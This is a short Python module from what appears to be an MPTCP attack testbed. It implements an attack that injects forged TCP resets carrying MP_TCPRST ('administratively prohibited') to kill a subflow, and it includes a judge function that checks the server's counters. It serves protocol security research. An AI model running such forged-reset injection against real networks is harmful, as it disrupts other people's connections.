"""Attack 4c, MP_TCPRST injection: reset a subflow with MPTCP's own reset option (RFC 8684 §3.6).

Source: RFC 8684 §3.6 and §5 (MP_TCPRST is carried on a RST and is only as trustworthy as the RST itself);
RFC 6181. Like the RST attack, but each forged RST carries MP_TCPRST(reason "administratively prohibited").

Effect measured: the path-1 subflow is gone from the server's `ss`; MPTcpExtMPRstRx counts the option.
"""

from __future__ import annotations

from mptcrypt.attacks.common import mptcp_opt
from mptcrypt.attacks.rst import reset
from mptcrypt.attacks.runner import Evidence, Verdict
from mptcrypt.attacks.teardown import subflow_killed
from mptcrypt.wire.mptcp import MptcpOption, RstReason

NUMBER = 4
TITLE = "MP_TCPRST on path 1"
SOURCE = "RFC 8684 §3.6, §5; RFC 6181"


def attack(agent) -> dict:
    return reset(agent, "RST + MP_TCPRST", [mptcp_opt(MptcpOption.mp_tcprst(RstReason.ADMIN_PROHIBITED))])


def judge(ev: Evidence) -> Verdict:
    return subflow_killed(ev, "path1", "MP_TCPRST", ("MPRstRx", "MPRstTx", "RmSubflow"))
